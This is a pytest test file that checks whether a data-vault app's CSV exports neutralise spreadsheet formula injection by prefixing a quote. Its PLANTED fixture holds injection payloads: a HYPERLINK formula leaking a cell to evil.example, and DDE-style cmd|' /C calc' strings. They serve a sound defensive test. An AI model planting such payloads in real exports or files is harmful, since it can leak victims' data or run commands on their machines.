"""The export's CSV files open safely in a spreadsheet: a value a brand wrote
that starts like a formula (``=``, ``+``, ``-``, ``@``, tab, carriage return)
is prefixed with a single quote, so it shows as text and never runs. Plain
numbers stay numbers, and the JSON copy keeps every value exactly."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from typing import Any

import pytest

from core.spreadsheets import spreadsheet_cell
from vault.exporters import write_zip
from vault.services import record_write

pytestmark = pytest.mark.django_db

PLANTED = {
    "merchant": '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "category": "+cmd|' /C calc'!A0",
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "channel": "-2+3",
}


def _export(vault: Any) -> dict[str, bytes]:
    out = io.BytesIO()
    write_zip(vault=vault, out=out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _rows(files: dict[str, bytes], facet: str) -> list[dict[str, str]]:
    text = files[f"sillage-export/csv/{facet}.csv"].decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_formula_cells_are_neutralised_in_every_csv(consumer: Any) -> None:
    vault = consumer.vault
    brand = ("brand_application", "client-1")
    record_write(vault=vault, facet="purchases", source="=Evil brand", actor=brand,
                 occurred_at="2026-04-02T08:00:00Z",
                 data={**PLANTED, "amount": "-12.50", "currency": "EUR"})
    record_write(vault=vault, facet="preferences", source="self", actor=brand,
                 data={"size": "M", "note": "=1+1"})

    files = _export(vault)
    purchase = _rows(files, "purchases")[0]
    for name, value in PLANTED.items():
        assert purchase[name] == "'" + value, name
    assert purchase["source"] == "'=Evil brand"
    assert purchase["amount"] == "-12.50"  # a plain number is not a formula: kept as is
    assert purchase["currency"] == "EUR"
    preference = _rows(files, "preferences")[0]
    assert preference["size"] == "M"
    assert preference["note"] == "'=1+1"

    # Every cell of every CSV: none starts with a formula character.
    for name, content in files.items():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(content.decode(), newline="")):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                    assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit()

    # The JSON copy is exact: no quote added anywhere.
    document = json.loads(files["sillage-export/vault.json"])
    stored = document["facets"]["purchases"]["records"][0]
    assert stored["source"] == "=Evil brand"
    assert {name: stored["data"][name] for name in PLANTED} == PLANTED
    assert document["facets"]["preferences"]["records"][0]["data"]["note"] == "=1+1"


@pytest.mark.parametrize(
    ("value", "written"),
    [("=1+1", "'=1+1"), ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"), ("-2+3", "'-2+3"),
     ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"),
     ("-12.50", "-12.50"), ("-3", "-3"), ("12", "12"), ("Boulangerie", "Boulangerie"),
     ("a=b", "a=b"), ("", ""), (None, None), (42, 42)],
)
def test_a_cell_is_quoted_only_when_a_spreadsheet_would_run_it(value: Any, written: Any) -> None:
    assert spreadsheet_cell(value) == written
